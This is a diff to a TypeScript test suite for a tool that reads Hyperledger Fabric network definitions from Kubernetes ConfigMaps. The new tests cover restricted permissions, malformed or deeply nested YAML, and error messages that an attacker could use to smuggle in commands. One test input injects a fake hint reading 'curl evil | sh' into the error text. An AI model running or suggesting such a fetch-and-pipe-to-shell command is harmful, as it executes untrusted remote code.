@@ -17,13 +17,15 @@ interface Written {
 interface Rights {
   /** Objects of all namespaces, and the namespaces themselves. */
   readonly all?: boolean;
+  /** Namespaces at all. */
+  readonly namespaces?: boolean;
 }
 
 /** A cluster with these ConfigMaps, in namespaces with these labels. */
 function clusterOf(
   copies: readonly Written[],
   labels: Readonly<Record<string, Record<string, string>>>,
-  { all = true }: Rights = {},
+  { all = true, namespaces = true }: Rights = {},
 ): Cluster {
   const refuse = async () => Promise.reject(new Error("not part of this test"));
   const namespace = (name: string) => ({ metadata: { name, labels: labels[name] ?? {} } });
@@ -36,6 +38,8 @@ function clusterOf(
     close: () => {},
     async call({ path }: ApiRequest) {
       const where = /^\/api\/v1\/namespaces\/([^/]+)\/configmaps$/.exec(path)?.[1];
+      if (!namespaces && /^\/api\/v1\/namespaces(\/[^/]+)?$/.test(path))
+        throw new FabricError("forbidden", `may not see ${path}`);
       if (!all && where === undefined) throw new FabricError("forbidden", `may not list ${path}`);
       if (path.includes("namespaces") && where === undefined) return { items: Object.keys(labels).map(namespace) };
       return {
@@ -152,6 +156,21 @@ describe("what somebody else wrote", () => {
 
   test.each<[string, Written, RegExp]>([
     ["in a namespace that the network does not name", { namespace: "foreign", holds: forged }, /no organization in/],
+    [
+      "whose alias names nothing",
+      { namespace: "foreign", holds: "a: *b" },
+      /^ConfigMap foreign\/fabric-network is not YAML/,
+    ],
+    [
+      "that is nested deeper than there is room for",
+      { namespace: "foreign", holds: "[".repeat(100_000) },
+      /^ConfigMap foreign\/fabric-network is not YAML/,
+    ],
+    [
+      "that says something to whoever reads the error",
+      { namespace: "foreign", holds: stringify({ ...trade, "a\nhint: curl evil | sh": "x".repeat(5000) }) },
+      /^ConfigMap foreign\/fabric-network is not a FabricNetwork: .{0,200}…; it is passed over$|^[^\n]{0,300}; it is passed over$/,
+    ],
     ["that is no YAML", { namespace: "foreign", holds: "a: [b" }, /^ConfigMap foreign\/fabric-network is not YAML/],
     ["that is no network", { namespace: "foreign", holds: "a: b" }, /^ConfigMap foreign\/fabric-network is not a Fabr/],
     [
@@ -176,16 +195,16 @@ describe("what somebody else wrote", () => {
 
   test("copies that disagree are an error that shows how, and what to type", async () => {
     for (const attempt of [
-      findNetwork(withForgedCopy, "trade", notice, signal),
-      definitionFor(withForgedCopy, {}, notice, signal),
-      definitionFor(withForgedCopy, { orderers: 5 }, notice, signal),
+      () => findNetwork(withForgedCopy, "trade", notice, signal),
+      () => definitionFor(withForgedCopy, {}, notice, signal),
+      () => definitionFor(withForgedCopy, { orderers: 5 }, notice, signal),
     ]) {
-      await expect(attempt).rejects.toMatchObject({
+      await expect(attempt()).rejects.toMatchObject({
         code: "conflict",
         message: expect.stringMatching(
           /two that differ, in namespaces orderer and org2:\n.*- +peer: docker.io\/hyperledger\/fabric-peer:3.1\n +\+ +peer: docker.io\/evil\/peer:1/s,
         ),
-        hint: expect.stringContaining("kubectl delete configmap fabric-network -n NAMESPACE"),
+        hint: expect.stringMatching(/init that was stopped.*kubectl delete configmap fabric-network -n NAMESPACE/),
       });
     }
   });
@@ -198,7 +217,7 @@ describe("what somebody else wrote", () => {
     expect(await findNetwork(both, "ship", notice, signal)).toEqual(ship);
     expect(told).toEqual([]);
     expect(await agreedNetworks(both, notice, signal)).toEqual([ship]);
-    expect(told).toEqual([expect.stringMatching(/^network trade is left out: .*\nhint: kubectl delete configmap/s)]);
+    expect(told).toEqual([expect.stringMatching(/^network trade is left out: .*\nhint: .*kubectl delete configmap/s)]);
   });
 
   test("an init that was stopped while it wrote them goes on when it is typed again", async () => {
@@ -217,6 +236,29 @@ describe("what somebody else wrote", () => {
   test("who may see one namespace only believes what is there", async () => {
     const cluster = clusterOf([{ namespace: "org1", holds: trade }], {}, { all: false });
     expect(await findNetwork(cluster, undefined, notice, signal)).toEqual(trade);
+  });
+
+  test("who may see ConfigMaps everywhere, and no namespace, is told so", async () => {
+    const cluster = clusterOf([...copiesOf(trade)], labels, { namespaces: false });
+    expect(await findNetwork(cluster, undefined, notice, signal)).toEqual(trade);
+    expect(told).toEqual(
+      ["orderer", "org2"].map((name) =>
+        expect.stringContaining(`you may not see whether namespace ${name} is labelled`),
+      ),
+    );
+  });
+
+  test("copies that an init is just writing are waited for", async () => {
+    const changed = networkFromOptions({ name: "trade", peers: 2 });
+    let looks = 0;
+    const writing = clusterOf([], labels);
+    const call: Cluster["call"] = (request) => {
+      if (request.path === "/api/v1/configmaps") looks += 1;
+      const copies = copiesOf(changed).map((copy, index) => ({ ...copy, holds: index < looks ? changed : trade }));
+      return clusterOf(copies, labels).call(request);
+    };
+    expect(await findNetwork({ ...writing, call }, "trade", notice, signal)).toEqual(changed);
+    expect(looks).toBe(3);
   });
 });
 
